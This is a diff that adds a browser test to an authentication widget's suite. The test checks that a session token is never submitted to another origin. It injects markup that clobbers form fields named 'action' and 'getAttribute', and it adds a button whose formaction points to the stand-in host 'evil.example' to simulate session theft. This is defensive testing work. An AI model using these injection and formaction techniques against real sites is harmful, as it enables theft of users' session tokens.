@@ -95,6 +95,40 @@ test('a button that submits a post form by GET leaves the session out, and only 
   await expect.poll(async () => Object.keys(await read(page))).toEqual(['item', 'session']);
 });
 
+test('the session goes to no other origin, whichever button or field of injected markup asks for it', async ({
+  page,
+  openWidget,
+  emulator,
+  watch,
+}) => {
+  watch.expect(/submit-session needs a form whose action has the origin of the page/);
+  await signIn({ openWidget, emulator }, submits, 'method="post" action="https://evil.example/"');
+  const names = () => read(page).then(Object.keys);
+  expect(await names()).toEqual(['item']);
+  await page.evaluate(() => {
+    const order = document.querySelector('#order');
+    order?.setAttribute('action', '/');
+    order?.insertAdjacentHTML('beforeend', '<input name="action"><input name="getAttribute">');
+    document.querySelector('auth-widget')?.removeAttribute('submit-session');
+    document.querySelector('auth-widget')?.setAttribute('submit-session', '');
+  });
+  await expect.poll(names).toEqual(['item', 'session', 'action', 'getAttribute']);
+  const stolen = await page.evaluate(() => {
+    const order = document.querySelector<HTMLFormElement>('#order');
+    const button = document.createElement('button');
+    button.setAttribute('formaction', 'https://evil.example/');
+    const names: string[] = [];
+    order?.addEventListener('submit', (event) => {
+      names.push(...new FormData(order, event.submitter).keys());
+      event.preventDefault();
+    });
+    order?.append(button);
+    button.click();
+    return names;
+  });
+  expect(stolen).toEqual(['item', 'action', 'getAttribute']);
+});
+
 test('without the attribute, the session leaves the form', async ({ page, openWidget, emulator }) => {
   const widget = await signIn({ openWidget, emulator }, submits, 'method="post"');
   await expect.poll(async () => Object.keys(await read(page))).toEqual(['item', 'session']);
